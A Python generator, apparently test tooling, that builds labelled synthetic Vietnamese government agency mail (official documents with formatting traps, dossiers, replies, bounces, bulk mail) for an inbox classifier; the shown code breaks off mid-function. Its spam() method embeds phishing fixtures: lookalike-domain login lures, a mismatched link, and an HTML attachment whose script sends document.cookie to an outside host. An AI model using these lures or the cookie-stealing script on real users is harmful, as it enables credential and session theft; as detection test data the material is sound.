"""A deterministic generator of labelled agency mail, independent of the public corpus's texts.

    python -m tests.generated.make OUT_DIR [--count N] [--seed S]

Writes N .eml files, a labels.json in the public corpus's shape and a context.json with the
cases that exist before the mails (for replies). Names come from tests/generated/data/*.yaml;
every text is built here from parts, NFC. The same seed gives the same bytes.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import hashlib
import json
import random
import unicodedata
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from email.header import Header
from pathlib import Path
from typing import Any

import yaml
from fpdf import FPDF

DATA = Path(__file__).resolve().parent / "data"
FONT = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
MAILBOX = "vanthu.sgddt@nghean.gov.vn"
AGENCY = "Sở Giáo dục và Đào tạo tỉnh Nghệ An"
AUTHSERV = "mx.nghean.gov.vn"
NBSP = "\u00a0"

TYPES = [  # (name, abbreviation, summary starts with "Về việc" sometimes)
    ("Quyết định", "QĐ"), ("Kế hoạch", "KH"), ("Thông báo", "TB"), ("Báo cáo", "BC"),
    ("Tờ trình", "TTr"), ("Giấy mời", "GM"), ("Chỉ thị", "CT"), ("Hướng dẫn", "HD"),
    ("Quy định", "QyĐ"), ("Chương trình", "CTr"), ("Công điện", "CĐ"), ("Nghị quyết", "NQ"),
    ("Phương án", "PA"), ("Biên bản", "BB"),
]
TOPICS = [
    "tổ chức kỳ thi tốt nghiệp trung học phổ thông năm 2026 trên địa bàn",
    "triển khai Chương trình chuyển đổi số trong cơ quan nhà nước giai đoạn 2026 - 2030",
    "rà soát, sắp xếp đơn vị sự nghiệp công lập sau khi thực hiện mô hình chính quyền địa "
    "phương hai cấp",
    "phòng, chống thiên tai, tìm kiếm cứu nạn mùa mưa bão năm 2026",
    "kiểm tra công tác cải cách hành chính và thực hiện thủ tục hành chính trên môi trường "
    "điện tử",
    "bảo đảm an toàn thực phẩm trong các bếp ăn tập thể của trường học",
    "điều chỉnh giá dịch vụ khám bệnh, chữa bệnh không thuộc phạm vi thanh toán của quỹ bảo "
    "hiểm y tế",
    "tăng cường công tác phòng cháy, chữa cháy tại các khu dân cư và cơ sở sản xuất",
    "hướng dẫn quyết toán kinh phí thực hiện chính sách hỗ trợ học phí năm học 2025 - 2026",
    "tổng kết công tác thi đua, khen thưởng năm 2025 và phương hướng nhiệm vụ năm 2026",
    "lấy ý kiến góp ý dự thảo Nghị quyết quy định mức thu học phí đối với cơ sở giáo dục công "
    "lập",
    "cung cấp thông tin phục vụ điều tra vụ việc có dấu hiệu vi phạm pháp luật về đất đai",
    "phối hợp xác minh lý lịch và điều kiện bảo đảm an ninh, trật tự của cơ sở kinh doanh",
    "tuyển dụng viên chức giáo dục năm 2026 theo vị trí việc làm được phê duyệt",
    "thực hiện Đề án phát triển nguồn nhân lực chất lượng cao phục vụ công nghiệp bán dẫn",
]
GIVEN = ["Nguyễn Văn An", "Trần Thị Bích Ngọc", "Lê Hoàng Phúc", "Phạm Thị Thu Hà",
         "Hoàng Minh Đức", "Vũ Thị Hường", "Đỗ Quang Huy", "Bùi Thị Mỹ Duyên", "Đặng Tiến Dũng",
         "Ngô Thị Quỳnh Anh", "Dương Văn Thắng", "Lý Thị Hồng Nhung", "Hồ Sỹ Nguyên",
         "Trịnh Thị Xuân", "Phan Đình Khải", "Võ Thị Ánh Tuyết", "Mai Văn Lực",
         "Cao Thị Yến", "Lương Đức Trọng", "Tạ Thị Oanh"]
PROCEDURES = ["Cấp bản sao văn bằng, chứng chỉ từ sổ gốc", "Công nhận văn bằng do cơ sở "
              "giáo dục nước ngoài cấp", "Cấp phép hoạt động dạy thêm, học thêm",
              "Chuyển trường đối với học sinh trung học phổ thông",
              "Cho phép trung tâm ngoại ngữ, tin học hoạt động giáo dục",
              "Chỉnh sửa nội dung văn bằng, chứng chỉ"]
MARKS_U = [("KHẨN", "Khẩn"), ("THƯỢNG KHẨN", "Thượng khẩn"), ("HỎA TỐC", "Hỏa tốc"),
           ("HOẢ TỐC", "Hỏa tốc")]
MARKS_C = [("MẬT", "Mật"), ("TỐI MẬT", "Tối mật"), ("TUYỆT MẬT", "Tuyệt mật")]
LOOKALIKE = ["Đề nghị các đơn vị khẩn trương triển khai, báo cáo kết quả đúng thời hạn.",
             "Hồ sơ kèm theo tài liệu mật (nếu có) gửi theo đường bưu chính.",
             "Không cung cấp mật khẩu tài khoản cho bất kỳ ai.",
             "Việc này cần thực hiện hỏa tốc? Không, thực hiện theo kế hoạch chung.",
             "Các đơn vị lưu ý bảo mật thông tin cá nhân của học sinh."]


def nfc(text: str) -> str:
    return unicodedata.normalize("NFC", text)


def load(name: str) -> Any:
    return yaml.safe_load((DATA / name).read_text(encoding="utf-8"))


@dataclass
class Issuer:
    lines: list[str]  # header lines as printed, capitals
    name: str  # the label: the issuing body's full name
    place: str  # the place on the date line as printed
    abbr: str  # issuer part of the symbol
    domain: str
    party: bool = False


@dataclass
class Page:
    """An official document: the header's two columns and what follows them."""
    left: list[str]
    right: list[str]
    rest: list[str]


@dataclass
class Mail:
    file: str
    raw: bytes
    label: dict[str, Any]


@dataclass
class Gen:
    rnd: random.Random
    provinces: Any = field(default_factory=lambda: load("provinces.yaml"))
    agencies: Any = field(default_factory=lambda: load("agencies.yaml"))
    cases: list[dict[str, Any]] = field(default_factory=list)
    serial: int = 0

    def pick(self, items: list[Any]) -> Any:
        return items[self.rnd.randrange(len(items))]

    # ----- issuers -------------------------------------------------------------------------
    def province(self, old: bool) -> tuple[str, str, str]:
        """(name as in an issuer, kind word, ascii slug) for a province before or after 2025."""
        if self.rnd.random() < 0.12:
            # The shapes that break place lines: a hyphen inside the name, a "TP." prefix.
            # Units merged in 2025 appear only on older documents.
            name = self.pick(["Bà Rịa - Vũng Tàu", "Hồ Chí Minh", "Thừa Thiên Huế"]
                             if old else ["Hồ Chí Minh"])
            return name, "thành phố" if name == "Hồ Chí Minh" else "tỉnh", slug(name)
        if old:
            pool = self.provinces["before_2025"]
            name = self.pick(pool["cities"] + pool["provinces"])
            kind = "thành phố" if name in pool["cities"] else "tỉnh"
        else:
            entry = self.pick(self.provinces["after_2025"])
            name, kind = entry["name"], entry["kind"]
        return name, kind, slug(name)

    def issuer(self, old: bool) -> Issuer:
        prov, kind, s = self.province(old)
        full = f"Thành phố {prov}" if prov == "Hồ Chí Minh" else f"{kind} {prov}"
        place = prov
        if prov == "Hồ Chí Minh":
            place = self.pick(["TP. Hồ Chí Minh", "Thành phố Hồ Chí Minh", "TP Hồ Chí Minh"])
        upper_full = full.upper()
        short_ub = self.pick(["UBND", "ỦY BAN NHÂN DÂN"])
        family = self.rnd.choice(["ministry", "ministry", "unit", "dept", "dept", "dept",
                                  "ubnd", "commune", "oldcity", "police", "court", "procuracy",
                                  "body", "public", "party", "vpubnd"])
        if family == "oldcity" and not old:
            family = "ubnd"  # district-level cities were abolished on 1 July 2025
        dom = f"{s}.gov.vn"
        if family == "ministry":
            pool = self.agencies["ministries"] + (self.agencies["ministries_before_2025"]
                                                  if old else [])
            m = self.pick(pool)
            return Issuer([m["name"].upper()], m["name"], "Hà Nội", m["abbr"],
                          f"{m['abbr'].lower()}.gov.vn".replace("đ", "d"))
        if family == "unit":
            u = self.pick(self.agencies["ministry_units"])
            parent = next(m for m in self.agencies["ministries"] if m["name"] == u["parent"])
            return Issuer([u["parent"].upper(), u["name"].upper()], u["name"], "Hà Nội",
                          u["abbr"], f"{parent['abbr'].lower()}.gov.vn")
        if family == "dept":
            d = self.pick(self.agencies["departments"] + (
                self.agencies["departments_before_2025"] if old else []))
            return Issuer([f"{short_ub} {upper_full}", d["name"].upper()],
                          f"{d['name']} {full}", place, d["abbr"], dom)
        if family == "vpubnd":
            return Issuer([f"{short_ub} {upper_full}", "VĂN PHÒNG"],
                          f"Văn phòng Ủy ban nhân dân {full}", place, "VP", dom)
        if family == "ubnd":
            council = self.rnd.random() < 0.3
            body = "Hội đồng nhân dân" if council else "Ủy ban nhân dân"
            lines = [f"{body.upper()} {upper_full}"] if self.rnd.random() < 0.5 else \
                [body.upper(), upper_full]
            return Issuer(lines, f"{body} {full}", place, "HĐND" if council else "UBND", dom)
        if family == "commune":
            c = self.pick(self.agencies["communes"])
            cname = f"{c['kind']} {c['name']}"
            return Issuer([f"{short_ub} {cname.upper()}"] if self.rnd.random() < 0.5 else
                          ["ỦY BAN NHÂN DÂN", cname.upper()],
                          f"Ủy ban nhân dân {cname}", c["name"], "UBND", dom)
        if family == "oldcity":
            c = self.pick(self.provinces["old_cities"])
            return Issuer(["ỦY BAN NHÂN DÂN", f"THÀNH PHỐ {c['name'].upper()}"],
                          f"Ủy ban nhân dân thành phố {c['name']}", c["name"], "UBND",
                          f"{slug(c['province'])}.gov.vn")
        if family == "police":
            p = self.pick(self.agencies["police_divisions"])
            return Issuer([f"CÔNG AN {upper_full}", p["name"].upper()],
                          f"{p['name']} Công an {full}", place, p["abbr"], f"ca.{dom}")
        if family == "court":
            return Issuer(["TÒA ÁN NHÂN DÂN", upper_full], f"Tòa án nhân dân {full}", place,
                          "TA", f"toaan.{dom}")
        if family == "procuracy":
            return Issuer(["VIỆN KIỂM SÁT NHÂN DÂN", upper_full],
                          f"Viện kiểm sát nhân dân {full}", place, "VKS", f"vks.{dom}")
        if family == "body":
            b = self.pick(self.agencies["provincial_bodies"])
            return Issuer([f"{b['name'].upper()} {upper_full}"], f"{b['name']} {full}",
                          place, b["abbr"], dom)
        if family == "public":
            u = self.pick(self.agencies["public_units"])
            parent = self.pick([f"SỞ Y TẾ {upper_full}", f"SỞ XÂY DỰNG {upper_full}",
                                f"{short_ub} {upper_full}"])
            return Issuer([parent, u["name"].upper()], f"{u['name']} {full}", place, u["abbr"],
                          dom)
        b = self.pick(self.agencies["party"])
        unit = "THÀNH ỦY" if kind == "thành phố" else "TỈNH ỦY"
        return Issuer([f"ĐẢNG BỘ {upper_full}", f"{b['name'].upper()} {unit}"],
                      f"{b['name']} {unit.capitalize()} {prov}", place, b["abbr"], dom,
                      party=True)

    # ----- documents -----------------------------------------------------------------------
    def document_text(self, iss: Issuer, traps: list[str]) -> tuple[Page, dict[str, Any]]:
        r = self.rnd
        old = "old" in traps
        # Older documents predate the 2025 mergers (Thừa Thiên Huế was a province until 2024).
        year = r.choice([2019, 2021, 2023, 2024]) if old else 2026
        date = dt.date(year, r.randint(1, 12), r.randint(1, 28))
        cong_van = r.random() < 0.35
        tname, tabbr = ("Công văn", "") if cong_van else self.pick(types_for(iss))
        number = str(r.randint(1, 2999))
        if r.random() < 0.25 and int(number) < 10:
            number = number.zfill(2)
        if r.random() < 0.15:
            number = str(r.randint(1, 9)).zfill(2)
            traps.append("number-leading-zero")
        unit = self.pick(["VP", "KHTC", "TCCB", "QLCL", "NV", "KT", "TH"])
        if iss.party:
            symbol = f"{'CV' if cong_van else tabbr}/{iss.abbr}"
        elif cong_van:
            symbol = f"{iss.abbr}-{unit}" if r.random() < 0.8 else iss.abbr
        else:
            symbol = f"{tabbr}-{iss.abbr}"
        if not cong_van and tabbr in ("QĐ", "NQ", "CT") and r.random() < 0.2:
            symbol = f"{year}/{symbol}"
            traps.append("symbol-with-year")
        blank_number = r.random() < 0.05
        sep = "-" if iss.party else "/"
        head = "Số" if iss.party else r.choice(["Số:", "Số:", "Số :", "Số"])
        if blank_number:
            numline = f"{head}      {sep}{symbol}"
            traps.append("blank-number")
        else:
            spacing = r.choice(["", "", "", " ", "sp-after", "nbsp"])
            if spacing == " ":
                traps.append("number-spacing")
                numline = f"{head} {number} {sep}{symbol}"
            elif spacing == "sp-after":
                traps.append("number-spacing")
                numline = f"{head} {number}{sep} {symbol}"
            elif spacing == "nbsp":
                traps.append("number-nbsp")
                numline = f"{head}{NBSP}{number}{sep}{symbol}"
            else:
                numline = f"{head} {number}{sep}{symbol}"
        blank_date = r.random() < 0.05
        if blank_date:
            dline = f"{iss.place}, ngày      tháng      năm {year}"
            traps.append("blank-date")
        else:
            d, m = str(date.day), str(date.month)
            if date.day < 10 and r.random() < 0.7:
                d = d.zfill(2)
            if date.month < 3 and r.random() < 0.7:
                m = m.zfill(2)
            gap = r.choice([" ", " ", "  ", NBSP])
            if gap != " ":
                traps.append("date-spacing")
            dline = f"{iss.place}, ngày{gap}{d}{gap}tháng{gap}{m}{gap}năm{gap}{year}"
        topic = self.pick(TOPICS)
        if cong_van:
            summary = topic
        else:
            summary = (r.choice(["Về việc ", "V/v ", ""]) + topic).strip()
            if summary.startswith("V/v"):
                summary = "Về việc " + topic
            summary = summary[0].upper() + summary[1:]
        urgency = conf = None
        u_line = c_line = ""
        if r.random() < 0.2:
            u_line, urgency = self.pick(MARKS_U)
            traps.append("urgency-" + slug(urgency))
        if r.random() < 0.1:
            c_line, conf = self.pick(MARKS_C)
            traps.append("confidential-" + slug(conf))
        look = r.random() < 0.3
        if look:
            traps.append("false-mark-mention")
        wrap = r.choice([0, 0, 1, 2])
        sum_lines = wrapped(("V/v " + summary) if cong_van else summary, wrap, r)
        if wrap:
            traps.append("summary-wrapped")
        left = [*iss.lines, "", numline]
        if cong_van:
            left += sum_lines
        right = (["ĐẢNG CỘNG SẢN VIỆT NAM"] if iss.party else
                 ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc"]) + \
            ["", dline]
        stamps = [s for s in (u_line, c_line) if s]
        r.shuffle(stamps)
        lines = ["", *stamps, ""]
        if not cong_van:
            lines += [tname.upper(), *sum_lines, ""]
        lines += [f"Kính gửi: {AGENCY}." if cong_van else "Căn cứ các quy định hiện hành;", ""]
        body = (f"Thực hiện chỉ đạo của cấp trên về việc {self.pick(TOPICS)}, "
                f"{iss.name} đề nghị các cơ quan, đơn vị liên quan phối hợp thực hiện.")
        lines += [body]
        if look:
            lines += [self.pick(LOOKALIKE)]
        signer = self.pick(GIVEN)
        lines += ["", "Nơi nhận:", "- Như trên;", f"- Lưu: VT, {unit}.", "",
                  *signature(iss.name, r), "", signer]
        label = {"number": None if blank_number else number,
                 "symbol": symbol, "type": tname,
                 "issuer": iss.name, "place": iss.place,
                 "date": None if blank_date else date.isoformat(), "summary": summary,
                 "urgency": urgency, "confidentiality": conf}
        return Page([nfc(x) for x in left], [nfc(x) for x in right],
                    [nfc(x) for x in lines]), label

    def document(self) -> Mail:
        r = self.rnd
        traps: list[str] = []
        old = r.random() < 0.25
        if old:
            traps.append("old")
        iss = self.issuer(old)
        page, doc = self.document_text(iss, traps)
        layout = r.choice(["stacked", "stacked", "side", "interleaved"])
        text = "\n".join(layout_lines(page.left, page.right, layout) + page.rest)
        sender = f"vanthu@{iss.domain}"
        where = r.choice(["body", "pdf", "pdf", "both"])
        traps.append(f"document-in-{where}")
        if where != "pdf":
            traps.append("layout-" + layout)
        subject_kind = r.choice(["number", "summary", "generic", "ascii"])
        num_sym = f"{doc['number'] or ''}{'-' if iss.party else '/'}{doc['symbol']}"
        subject = {"number": f"{doc['type']} số {num_sym}",
                   "summary": f"{doc['type']}: {short(doc['summary'], 70)}",
                   "generic": "Gửi văn bản", "ascii": strip_marks(f"Van ban {num_sym}")
                   }[subject_kind]
        if doc["urgency"] and r.random() < 0.5:
            subject = f"({doc['urgency'].upper()}) {subject}"
        atts: list[tuple[str, str, bytes]] = []
        if where == "body":
            body = text
        else:
            body = self.pick(["Kính gửi Quý cơ quan,\n\nXin gửi văn bản kèm theo.\n\nVăn thư",
                              "Đồng chí văn thư vui lòng nhận văn bản đính kèm.\nTrân trọng.",
                              "Gửi kèm văn bản điện tử."])
            if where == "both":
                body = body + "\n\n" + text
            name = nfc(f"{doc['type']} {doc['number'] or ''}-{doc['symbol'].replace('/', '-')}"
                       ".pdf")
            atts.append((name, "application/pdf", pdf_of_page(page)))
        must = ["register", "ack"]
        if doc["urgency"]:
            must.append("flag-urgent")
        if doc["confidentiality"]:
            must.append("do-not-forward-by-email")
        raw = self.mail(iss.name, sender, subject, body, atts, traps,
                        auth=r.random() < 0.9)
        return self.finish(raw, "document", traps, must, document=doc,
                           attachments=[a[0] for a in atts])

    # ----- dossiers ------------------------------------------------------------------------
    def phone(self, traps: list[str]) -> tuple[str, str]:
        # Mobile prefixes in use since the 2018 renumbering (03x, 05x, 07x, 08x, 09x).
        digits = self.pick(["032", "035", "038", "056", "070", "077", "079", "083", "086",
                            "088", "090", "091", "094", "097", "098"]) + "".join(
            str(self.rnd.randrange(10)) for _ in range(7))
        style = self.rnd.choice(["plain", "dots", "dashes", "spaces", "nbsp", "intl"])
        traps.append("phone-" + style)
        a, b, c = digits[:4], digits[4:7], digits[7:]
        shown = {"plain": digits, "dots": f"{a}.{b}.{c}", "dashes": f"{a}-{b}-{c}",
                 "spaces": f"{a} {b} {c}", "nbsp": f"{a}{NBSP}{b}{NBSP}{c}",
                 "intl": f"+84 {digits[1:4]} {b} {c}"}[style]
        return shown, digits

    def dossier(self) -> Mail:
        r = self.rnd
        traps: list[str] = []
        person = self.pick(GIVEN)
        shown, digits = self.phone(traps)
        proc = self.pick(PROCEDURES)
        who = r.choice(["citizen", "citizen", "centre", "company"])
        traps.append("dossier-" + who)
        pemail = f"{slug(person).replace('-', '')}{r.randint(70, 99)}@gmail.com"
        atts = [(nfc("Đơn đề nghị.pdf"), "application/pdf",
                 pdf_of(nfc(f"ĐƠN ĐỀ NGHỊ\n{proc}\nNgười đề nghị: {person}")))]
        if who == "citizen":
            applicant = {"name": person, "email": pemail, "phone": digits}
            sender, sname = pemail, person
            body = (f"Kính gửi {AGENCY},\n\nTôi tên là {person}, xin nộp hồ sơ đề nghị "
                    f"{proc[0].lower() + proc[1:]}.\nSố điện thoại liên hệ: {shown}.\n"
                    f"Hồ sơ gồm đơn đề nghị và các giấy tờ kèm theo.\n\nTrân trọng,\n{person}")
            subject = f"Nộp hồ sơ {proc[0].lower() + proc[1:]}"
        elif who == "centre":
            applicant = {"name": person, "email": pemail, "phone": digits}
            sender, sname = "tiepnhan.pvhcc@nghean.gov.vn", "Trung tâm Phục vụ hành chính công"
            body = (f"Trung tâm Phục vụ hành chính công tỉnh chuyển hồ sơ thủ tục {proc} "
                    f"của công dân.\n\nNgười nộp hồ sơ: {person}\nĐiện thoại: {shown}\n"
                    f"Thư điện tử: {pemail}\n\nĐề nghị Sở tiếp nhận, giải quyết theo quy "
                    f"định.\nCán bộ tiếp nhận: {self.pick(GIVEN)}")
            subject = f"Chuyển hồ sơ: {proc}"
        else:
            company = self.pick(self.agencies["companies"])
            cdom = "".join(slug(w)[0] for w in company.split()[2:]) + "-" + \
                slug(" ".join(company.split()[-2:])).replace("-", "") + ".vn"
            staff = self.pick(GIVEN)
            sender, sname = f"hanhchinh@{cdom}", staff
            applicant = {"name": company, "email": sender, "phone": digits}
            body = (f"Kính gửi Quý Sở,\n\nTôi là {staff}, nhân viên phòng Hành chính, thay mặt "
                    f"{company} gửi hồ sơ đề nghị {proc[0].lower() + proc[1:]}.\n"
                    f"Điện thoại công ty: {shown}\n\nTrân trọng.\n{staff}\n{company}")
            subject = f"{company} nộp hồ sơ {proc[0].lower() + proc[1:]}"
        raw = self.mail(sname, sender, subject, body, atts, traps, auth=r.random() < 0.5)
        return self.finish(raw, "dossier", traps, ["register", "ack"], applicant=applicant,
                           attachments=[a[0] for a in atts])

    # ----- replies -------------------------------------------------------------------------
    def new_case(self) -> dict[str, Any]:
        n = 500 + len(self.cases)
        ref = f"HS-2026-{n:06d}"
        person = self.pick(GIVEN)
        case = {"case_ref": ref, "applicant": person,
                "email": f"{slug(person).replace('-', '')}@gmail.com",
                "procedure": self.pick(PROCEDURES),
                "message_ids": [f"<2026031{i}0800{n}.{ref}.{i}@nghean.gov.vn>"
                                for i in range(1, 4)]}
        self.cases.append(case)
        return case

    def reply(self) -> Mail:
        r = self.rnd
        traps: list[str] = []
        case = self.new_case()
        ref = case["case_ref"]
        path = r.choice(["subject", "in-reply-to", "in-reply-to-comment", "references-middle",
                         "body-forward", "body-quoted"])
        traps.append("reply-" + path)
        headers: list[tuple[str, str]] = []
        subject = f"Re: Bổ sung hồ sơ {case['procedure'][:40]}"
        body = "Kính gửi Quý Sở,\n\nTôi xin gửi bổ sung giấy tờ còn thiếu theo yêu cầu.\n"
        mids = case["message_ids"]
        if path == "subject":
            subject = f"{r.choice(['Re:', 'RE:', 'Trả lời:', 'TL:'])} [{ref}] bổ sung hồ sơ"
        elif path == "in-reply-to":
            headers.append(("In-Reply-To", mids[0]))
        elif path == "in-reply-to-comment":
            headers.append(("In-Reply-To", f"{mids[1]} (message from Van thu So GDDT)"))
        elif path == "references-middle":
            headers.append(("References", f"<a1.{r.randint(1, 9999)}@gmail.com> {mids[1]} "
                                          f"<b2.{r.randint(1, 9999)}@mail.gmail.com>"))
        elif path == "body-forward":
            subject = "Fwd: hồ sơ của tôi"
            body += (f"\n---------- Forwarded message ---------\nFrom: Văn thư <{MAILBOX}>\n"
                     f"Subject: Tiếp nhận hồ sơ {ref}\n\nHồ sơ của ông/bà đã được tiếp nhận, "
                     f"mã hồ sơ {ref}.\n")
        else:
            body += f"\n> Mã hồ sơ: {ref}\n> Đề nghị bổ sung bản sao căn cước.\n"
        atts = [(nfc("Bổ sung.pdf"), "application/pdf", pdf_of(nfc("Giấy tờ bổ sung")))]
        raw = self.mail(case["applicant"], case["email"], subject, body, atts, traps,
                        headers=headers, auth=r.random() < 0.5)
        return self.finish(raw, "reply", traps, ["no-new-case", f"link-to-case:{ref}"],
                           case_ref=ref, attachments=[a[0] for a in atts])

    # ----- machine mail --------------------------------------------------------------------
    def auto(self) -> Mail:
        r = self.rnd
        traps = ["auto-submitted"]
        headers = [("Auto-Submitted", "auto-replied")]
        if r.random() < 0.5:
            headers.append(("X-Autoreply", "yes"))
        subject = r.choice(["Trả lời tự động: Văn bản số 120/SGDĐT-VP",
                            "Tự động trả lời: Thư của bạn", "Out of Office: Giấy mời họp"])
        body = "Tôi đang đi công tác đến hết ngày 20. Việc gấp xin liên hệ Văn phòng."
        raw = self.mail(self.pick(GIVEN), f"canbo{r.randint(1, 99)}@hatinh.gov.vn", subject,
                        body, [], traps, headers=headers)
        return self.finish(raw, "auto", traps, ["no-auto-reply", "do-not-register"])

    def bounce(self) -> Mail:
        r = self.rnd
        traps = ["multipart-report", "body-8bit"]
        boundary = f"dsn{self.serial}"
        to = f"nguoinhan{r.randint(1, 99)}@example.vn"
        report = (f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n"
                  "Content-Transfer-Encoding: 8bit\r\n\r\n"
                  f"Thư không gửi được tới {to}: hộp thư không tồn tại.\r\n"
                  f"--{boundary}\r\nContent-Type: message/delivery-status\r\n\r\n"
                  f"Reporting-MTA: dns; {AUTHSERV}\r\n\r\nFinal-Recipient: rfc822; {to}\r\n"
                  f"Action: failed\r\nStatus: 5.1.1\r\n\r\n--{boundary}\r\n"
                  f"Content-Type: text/rfc822-headers\r\n\r\nFrom: {MAILBOX}\r\nTo: {to}\r\n"
                  f"Subject: Tiep nhan ho so\r\n\r\n--{boundary}--\r\n")
        head = self.head("Mail Delivery System", f"MAILER-DAEMON@{AUTHSERV}",
                         "Undelivered Mail Returned to Sender", traps, auth=True)
        head += ("Auto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\nContent-Type: "
                 f"multipart/report; report-type=delivery-status; boundary=\"{boundary}\"\r\n")
        return self.finish((head + "\r\n" + report).encode("utf-8"), "bounce", traps,
                           ["no-auto-reply", "do-not-register", "no-new-case"])

    def bulk(self) -> Mail:
        r = self.rnd
        traps = ["list-unsubscribe", "precedence-bulk"]
        headers = [("List-Unsubscribe", "<https://bantin.example.vn/huy>"),
                   ("Precedence", "bulk"), ("List-Id", "Ban tin <bantin.example.vn>")]
        subject = r.choice(["Bản tin pháp luật tuần 32", "Bản tin giáo dục số 15/2026",
                            "Hội thảo chuyển đổi số: mời đăng ký"])
        body = ("Điểm tin văn bản mới: Nghị định 118/2025/NĐ-CP, Thông tư 03/2025/TT-VPCP.\n"
                "Hủy đăng ký: https://bantin.example.vn/huy")
        raw = self.mail("Bản tin", "bantin@bantin.example.vn", subject, body, [], traps,
                        headers=headers)
        return self.finish(raw, "bulk", traps, ["no-auto-reply", "do-not-register"])

    # ----- spam and phishing ---------------------------------------------------------------
    def spam(self) -> Mail:
        r = self.rnd
        family = r.choice(["lookalike-domain", "link-mismatch", "fake-einvoice",
                           "html-double-extension", "idn-homograph"])
        traps = ["spam-" + family]
        atts: list[tuple[str, str, bytes]] = []
        html = ""
        if family == "lookalike-domain":
            dom = r.choice(["nghean-gov.vn", "nghean.gov.vn.xacthuc.top", "nghean.gov-vn.com",
                            "nghean.gov.com.vn"])
            sender = f"vanthu@{dom}"
            subject = "Thông báo cập nhật tài khoản thư công vụ"
            body = (f"Tài khoản thư công vụ của đồng chí sắp bị khóa. Đăng nhập tại "
                    f"https://mail.{dom}/xacthuc để giữ tài khoản trong 24 giờ.")
        elif family == "idn-homograph":
            dom = "xn--nghan-2ua.gov.vn"
            sender = f"hethong@{dom}"
            subject = "Xác minh hộp thư điện tử công vụ"
            body = f"Vui lòng xác minh tại https://{dom}/login trước 17 giờ hôm nay."
        elif family == "link-mismatch":
            sender = "thongbao@dichvucong-vn.net"
            subject = "Hồ sơ của quý cơ quan bị trả lại"
            body = "Xem chi tiết hồ sơ bị trả lại: https://dichvucong.gov.vn/hoso"
            html = ('<p>Xem chi tiết hồ sơ bị trả lại: <a href="http://185.22.10.4/dvc/'
                    'login.php">https://dichvucong.gov.vn/hoso</a></p>')
        elif family == "fake-einvoice":
            sender = f"hoadon{r.randint(1, 99)}@einvoice-vn.xyz"
            subject = f"Hóa đơn điện tử số {r.randint(1000, 99999)} - thanh toán gấp"
            body = ("Quý khách có hóa đơn giá trị gia tăng chưa thanh toán. Tải hóa đơn tại "
                    "liên kết đính kèm và nhập mã tra cứu để tránh bị phạt.")
            atts.append(("HoaDon_GTGT.zip", "application/zip", b"PK\x05\x06" + b"\0" * 18))
        else:
            sender = "noreply@egov-thongbao.com"
            subject = "Thông báo văn bản đến trên hệ thống quản lý văn bản điều hành"
            body = "Đồng chí có 01 văn bản mới. Mở tệp đính kèm để xem."
            page = ("<html><body><script>location='http://egov-thongbao.com/l?u='+"
                    "document.cookie</script>Văn bản đến</body></html>")
            atts.append(("VanBanDen.pdf.html", "text/html", page.encode("utf-8")))
        raw = self.mail(sender.split("@")[0], sender, subject, body, atts, traps, html=html,
                        auth=False)
        return self.finish(raw, "spam", traps, ["no-auto-reply", "do-not-register",
                                                "quarantine"],
                           attachments=[a[0] for a in atts])

    # ----- MIME ----------------------------------------------------------------------------
    def head(self, name: str, addr: str, subject: str, traps: list[str], *,
             auth: bool) -> str:
        self.serial += 1
        when = dt.datetime(2026, 10, 1, 8, 0) + dt.timedelta(minutes=37 * self.serial)
        dom = addr.split("@")[1]
        lines = [f"Return-Path: <{addr}>"]
        if auth:
            lines.append(f"Authentication-Results: {AUTHSERV};\r\n\tdkim=pass header.d={dom};"
                         f"\r\n\tspf=pass smtp.mailfrom={addr};\r\n\tdmarc=pass "
                         f"header.from={dom}")
        lines += [f"From: {Header(nfc(name), 'utf-8').encode()} <{addr}>",
                  f"To: {MAILBOX}",
                  f"Subject: {Header(nfc(subject), 'utf-8').encode()}",
                  f"Date: {when.strftime('%a, %d %b %Y %H:%M:%S')} +0700",
                  f"Message-ID: <g{self.serial}.{digest(subject)}@{dom}>"]
        return "\r\n".join(lines) + "\r\n"

    def mail(self, name: str, addr: str, subject: str, body: str,
             atts: list[tuple[str, str, bytes]], traps: list[str], *,
             headers: Sequence[tuple[str, str]] = (), auth: bool = False,
             html: str = "") -> bytes:
        head = self.head(name, addr, subject, traps, auth=auth)
        head += "".join(f"{k}: {v}\r\n" for k, v in headers) + "MIME-Version: 1.0\r\n"
        text_part = ("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
                     f"base64\r\n\r\n{b64(nfc(body).encode('utf-8'))}")
        if html:
            alt = f"alt{self.serial}"
            text_part = (f"Content-Type: multipart/alternative; boundary=\"{alt}\"\r\n\r\n"
                         f"--{alt}\r\n{text_part}--{alt}\r\nContent-Type: text/html; "
                         f"charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                         f"{b64(html.encode('utf-8'))}--{alt}--\r\n")
        if not atts:
            return (head + text_part).encode("ascii")
        boundary = f"part{self.serial}"
        out = head + f"Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n"
        out += f"--{boundary}\r\n{text_part}"
        for fname, ctype, data in atts:
            enc = Header(fname, "utf-8").encode() if not fname.isascii() else fname
            out += (f"--{boundary}\r\nContent-Type: {ctype}; name=\"{enc}\"\r\n"
                    f"Content-Disposition: attachment; filename=\"{enc}\"\r\n"
                    f"Content-Transfer-Encoding: base64\r\n\r\n{b64(data)}")
        out += f"--{boundary}--\r\n"
        return out.encode("ascii")

    def finish(self, raw: bytes, kind: str, traps: list[str], must: list[str], *,
               document: dict[str, Any] | None = None, applicant: dict[str, str] | None = None,
               case_ref: str | None = None, attachments: list[str] | None = None) -> Mail:
        return Mail("", raw, {"kind": kind, "case_ref": case_ref, "document": document,
                              "applicant": applicant, "must": must, "traps": traps,
                              "attachments": attachments or []})


# ----- helpers -------------------------------------------------------------------------------
def types_for(iss: Issuer) -> list[tuple[str, str]]:
    """The document types this issuer plausibly signs: resolutions come from councils and the
    Party, directives and official telegrams from People's Committees, ministries and the
    Party; the Party has no "Quy định" abbreviated QyĐ (its rules use their own table)."""
    council = iss.abbr == "HĐND"
    executive = iss.abbr == "UBND" or iss.name.startswith(("Bộ", "Ngân hàng", "Thanh tra Ch",
                                                           "Văn phòng Ch"))
    out = []
    for name, abbr in TYPES:
        if abbr == "NQ" and not (council or iss.party):
            continue
